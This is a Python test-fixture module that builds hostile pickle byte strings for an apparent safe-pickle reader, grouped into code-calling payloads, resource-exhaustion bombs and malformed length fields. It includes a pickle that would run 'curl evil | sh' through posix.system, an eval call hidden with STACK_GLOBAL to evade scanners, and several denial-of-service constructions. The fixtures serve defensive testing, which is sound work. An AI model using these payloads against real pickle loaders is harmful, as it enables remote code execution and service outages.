"""Makers of hostile pickles, as bytes.

`MAKERS` holds those that must be refused, with the class of error each deserves.  `CALLERS` holds those that
are read, and what they would have called had a real unpickler run them.  None of them is ever unpickled.
"""

from __future__ import annotations

from collections.abc import Callable
from struct import pack

from paramtool.errors import FormatError, ParamtoolError, UnsafeError
from tests.examples import IS_HARD

PROTO = b"\x80\x02"


def text(value: str) -> bytes:
    """BINUNICODE."""
    raw = value.encode()
    return b"X" + pack("<I", len(raw)) + raw


# -- calls: read, shown, never run


def calls_system() -> bytes:
    return PROTO + b"cposix\nsystem\n" + text("curl evil | sh") + b"\x85R."


def calls_eval_on_the_stack() -> bytes:
    """STACK_GLOBAL hides the name from scanners that look for GLOBAL."""
    return b"\x80\x04" + text("builtins") + text("eval") + b"\x93" + text("1") + b"\x85R."


def calls_by_inst() -> bytes:
    return b"(S'ls'\nios\nsystem\n."


def calls_by_obj() -> bytes:
    return b"(cos\nsystem\nS'ls'\no."


def calls_an_extension() -> bytes:
    return b"\x80\x02\x82\x07)R."


def calls_and_hides_it() -> bytes:
    """The result is thrown away and harmless data is left."""
    return calls_system()[:-1] + b"0}."


def calls_with_escapes() -> bytes:
    """Arguments that would paint the terminal."""
    return PROTO + b"cos\nsystem\n" + text("\x1b[2J\x1b[31mok\r" * 50) + b"\x85R."


def calls_with_itself() -> bytes:
    """A list that holds itself as an argument: its preview must end."""
    return PROTO + b"cos\nsystem\n]q\x00h\x00a\x85R."


def calls_with_a_deep_argument() -> bytes:
    return PROTO + b"cos\nsystem\n)" + b"\x85" * 100_000 + b"\x85R."


# -- bombs


def stack_bomb() -> bytes:
    return b"N" * 2_000_000


def mark_bomb() -> bytes:
    return b"(" * 2_000_000


def deep_nesting() -> bytes:
    return b"]" * 1_500_000 + b"a" * 1_499_999 + b"."


def memo_bomb(count: int = 20_100_000) -> bytes:
    return b"N" + b"\x94" * count


def object_bomb(count: int = 20_100_000) -> bytes:
    return b"]0" * count


def tuple_hash_bomb() -> bytes:
    """One big tuple as a key, hashed anew for each of its uses."""
    count = 50_000 if IS_HARD else 10_000
    return PROTO + b"(" + b"K\x01" * count + b"tq\x000}" + b"h\x00Ns" * 2 * count + b"."


def text_compare_bomb() -> bytes:
    """Two equal long texts as keys in turn, compared byte by byte each time."""
    long = text("k" * 1_000_000)
    return PROTO + long + b"q\x000" + long + b"q\x010}" + b"h\x00Nsh\x01Ns" * 50_000 + b"."


def colliding_keys() -> bytes:
    """Tuples of -1 and -2 have one hash: a dict of them takes quadratic time."""
    minus = (b"J" + pack("<i", -1), b"J" + pack("<i", -2))
    bits = 17 if IS_HARD else 13
    keys = (b"(" + b"".join(minus[i >> bit & 1] for bit in range(bits)) + b"t" for i in range(1 << bits))
    return PROTO + b"}(" + b"".join(key + b"N" for key in keys) + b"u."


def ordered_dict_bomb() -> bytes:
    """One list of pairs, copied into a new dict for each few bytes."""
    pair = b"(K\x01Ntq\x000"
    items = b"(" + b"h\x00" * 50_000 + b"l\x85q\x010"
    return PROTO + pair + items + b"ccollections\nOrderedDict\nq\x020" + b"h\x02h\x01R0" * 100_000 + b"N."


def bytes_bomb() -> bytes:
    """One text, encoded into new bytes for each few bytes of pickle."""
    args = text("x" * 1_000_000) + text("latin1") + b"\x86q\x000"
    return PROTO + args + b"c_codecs\nencode\nq\x010" + b"h\x01h\x00R" * 100_000 + b"."


def state_bomb() -> bytes:
    """One big dict, merged into the state of an object again and again."""
    state = b"}(" + b"".join(b"J" + pack("<i", i) + b"N" for i in range(50_000)) + b"uq\x000"
    return PROTO + state + b"ca\nB\n)\x81" + b"h\x00b" * 100_000 + b"."


def exponential_key() -> bytes:
    """A tuple of itself twice, forty times over: its hash would take 2**40 steps."""
    return PROTO + b"}" + b")" + b"2\x86" * 40 + b"Ns."


def deep_key() -> bytes:
    """A tuple nested deeper than the C stack is."""
    return PROTO + b"})" + b"\x85" * 200_000 + b"Ns."


def call_chain() -> bytes:
    """The result of a call is called, and so on: names must not grow with it."""
    return PROTO + b"ca\nb\n" + b")R" * 200_000 + b"."


def huge_number() -> bytes:
    return PROTO + b"\x8b" + pack("<i", 1 << 20) + b"\xff" * (1 << 20) + b"."


def huge_number_in_digits() -> bytes:
    return b"L" + b"9" * 1_000_000 + b"L\n."


# -- lies and damage


def huge_text_length() -> bytes:
    return b"\x80\x04\x8d" + pack("<Q", 2**64 - 1) + b"x."


def huge_bytes_length() -> bytes:
    return b"\x80\x03B" + pack("<I", 2**32 - 1) + b"x."


def huge_frame() -> bytes:
    return b"\x80\x04\x95" + pack("<Q", 2**63) + b"N."


def negative_text_length() -> bytes:
    return b"T" + pack("<i", -1) + b"x."


def negative_number_length() -> bytes:
    return b"\x8b" + pack("<i", -1) + b"."


MAKERS: dict[str, tuple[Callable[[], bytes], type[ParamtoolError]]] = {
    "stack_bomb": (stack_bomb, UnsafeError),
    "mark_bomb": (mark_bomb, UnsafeError),
    "deep_nesting": (deep_nesting, UnsafeError),
    "memo_bomb": (memo_bomb, UnsafeError),
    "object_bomb": (object_bomb, UnsafeError),
    "tuple_hash_bomb": (tuple_hash_bomb, UnsafeError),
    "text_compare_bomb": (text_compare_bomb, UnsafeError),
    "colliding_keys": (colliding_keys, UnsafeError),
    "ordered_dict_bomb": (ordered_dict_bomb, UnsafeError),
    "bytes_bomb": (bytes_bomb, UnsafeError),
    "state_bomb": (state_bomb, UnsafeError),
    "huge_number": (huge_number, UnsafeError),
    "exponential_key": (exponential_key, FormatError),
    "deep_key": (deep_key, FormatError),
    "huge_number_in_digits": (huge_number_in_digits, FormatError),
    "huge_text_length": (huge_text_length, FormatError),
    "huge_bytes_length": (huge_bytes_length, FormatError),
    "huge_frame": (huge_frame, FormatError),
    "negative_text_length": (negative_text_length, FormatError),
    "negative_number_length": (negative_number_length, FormatError),
}

CALLERS: dict[str, tuple[Callable[[], bytes], str]] = {
    "calls_system": (calls_system, "posix.system"),
    "calls_eval_on_the_stack": (calls_eval_on_the_stack, "builtins.eval"),
    "calls_by_inst": (calls_by_inst, "os.system"),
    "calls_by_obj": (calls_by_obj, "os.system"),
    "calls_an_extension": (calls_an_extension, "copyreg.extension.7"),
    "calls_and_hides_it": (calls_and_hides_it, "posix.system"),
    "calls_with_escapes": (calls_with_escapes, "os.system"),
    "calls_with_itself": (calls_with_itself, "os.system"),
    "calls_with_a_deep_argument": (calls_with_a_deep_argument, "os.system"),
    "call_chain": (call_chain, "a.b()"),
}
